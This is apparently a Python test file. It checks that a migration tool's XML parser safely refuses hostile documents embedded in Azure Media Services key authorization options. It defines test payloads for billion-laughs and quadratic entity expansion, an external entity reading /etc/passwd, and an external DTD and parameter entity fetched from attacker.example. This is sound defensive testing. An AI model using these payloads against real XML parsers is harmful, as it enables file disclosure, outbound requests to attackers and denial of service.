"""XML inside key authorization options parses safely: hostile documents are refused in one line."""

from __future__ import annotations

import pytest

from migrator.exceptions import InputError, UnsafeXmlError
from migrator.v2 import wire
from migrator.v2.xmlsafe import parse_xml

TOKEN_NS = "{http://schemas.microsoft.com/Azure/MediaServices/KeyDelivery/TokenRestrictionTemplate/v1}"

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    "<lolz>&lol3;</lolz>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<TokenRestrictionTemplate><Issuer>&xxe;</Issuer></TokenRestrictionTemplate>"
)
EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>'
PARAMETER_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]><foo/>'
)
QUADRATIC_BLOWUP = (
    f'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "{"x" * 5000}">]>'
    f"<q>{'&a;' * 2000}</q>"
)


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, QUADRATIC_BLOWUP],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "quadratic-blowup"],
)
def test_hostile_xml_is_refused_without_echoing_the_document(document):
    with pytest.raises(UnsafeXmlError) as caught:
        parse_xml(document, what="token restriction template of option nb:ckpoid:UUID:1")
    message = str(caught.value)
    assert message.startswith("token restriction template of option nb:ckpoid:UUID:1 ")
    assert "\n" not in message
    for fragment in ("lol", "passwd", "attacker", "xxxx", "ENTITY"):
        assert fragment not in message


@pytest.mark.parametrize("document", ["<a><b></a>", "not xml at all", "", "   "])
def test_broken_xml_is_an_input_error_not_an_unsafe_one(document):
    with pytest.raises(InputError) as caught:
        parse_xml(document, what="PlayReady license template")
    assert not isinstance(caught.value, UnsafeXmlError)
    assert caught.value.message.startswith("PlayReady license template is ")
    assert "not xml" not in caught.value.message


def test_the_token_restriction_template_of_a_parsed_option_can_be_read(build_wire_entity):
    option = wire.parse_entity("ContentKeyAuthorizationPolicyOptions", build_wire_entity("ContentKeyAuthorizationPolicyOptions", "verbose"))
    (restriction,) = option.restrictions
    assert isinstance(restriction.requirements, str)
    root = parse_xml(restriction.requirements, what="token restriction template")
    assert root.tag == f"{TOKEN_NS}TokenRestrictionTemplate"
    assert root.find(f"{TOKEN_NS}TokenType").text == "JWT"


def test_a_template_declaring_utf16_in_a_decoded_string_parses():
    document = (
        '<?xml version="1.0" encoding="utf-16"?>'
        '<PlayReadyLicenseResponseTemplate xmlns="http://schemas.microsoft.com/Azure/MediaServices/KeyDelivery/PlayReadyTemplate/v1">'
        "<LicenseTemplates/></PlayReadyLicenseResponseTemplate>"
    )
    assert parse_xml(document, what="PlayReady license template").tag.endswith("PlayReadyLicenseResponseTemplate")
